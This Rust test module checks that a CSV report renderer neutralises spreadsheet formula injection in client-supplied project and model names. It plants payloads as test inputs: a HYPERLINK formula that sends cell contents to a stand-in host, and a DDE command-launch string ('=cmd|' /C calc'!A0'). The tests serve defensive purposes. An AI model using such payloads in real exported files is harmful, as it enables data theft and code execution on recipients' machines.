//! Tests of the report renderers: CSV cells a spreadsheet would run as formulas.

use super::super::report::{Dim, Report, Row};
use super::super::rollup::Counters;
use super::render_csv;

fn report(rows: &[(&str, &str, f64)]) -> Report {
    let rows = rows
        .iter()
        .map(|(project, model, cost)| Row {
            dims: vec![Some(project.to_string()), Some(model.to_string())],
            counters: Counters {
                requests: 1,
                cost: *cost,
                ..Counters::default()
            },
        })
        .collect();
    Report {
        by: vec![Dim::Project, Dim::Model],
        since: None,
        until: None,
        rows,
        total: Counters::default(),
    }
}

/// The cells of each data row (quoted cells unquoted), header dropped.
fn cells(csv: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, csv.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows.remove(0);
    rows
}

#[test]
fn text_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let planted = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ];
    let rows: Vec<(&str, &str, f64)> = planted.iter().map(|m| ("team", *m, 0.5)).collect();
    let csv = render_csv(&report(&rows));
    let got = cells(&csv);
    assert_eq!(got.len(), planted.len(), "{csv:?}");
    for (row, model) in got.iter().zip(planted) {
        assert_eq!(row[1], format!("'{model}"), "{csv:?}");
    }
    // The project column is client text too.
    let csv = render_csv(&report(&[("=cmd|' /C calc'!A0", "m", 0.5)]));
    assert_eq!(cells(&csv)[0][0], "'=cmd|' /C calc'!A0");
}

#[test]
fn ordinary_text_and_negative_numbers_are_left_as_they_are() {
    let csv = render_csv(&report(&[("team-a", "gpt-4o", -0.25), ("a=b", "x+y", 1.0)]));
    let got = cells(&csv);
    assert_eq!(got[0][..2], ["team-a", "gpt-4o"]);
    assert_eq!(got[1][..2], ["a=b", "x+y"]);
    // cost is the eighth column: a refund stays a number a spreadsheet can sum.
    assert_eq!(got[0][7], "-0.25");
    assert_eq!(got[0][2], "1");
}
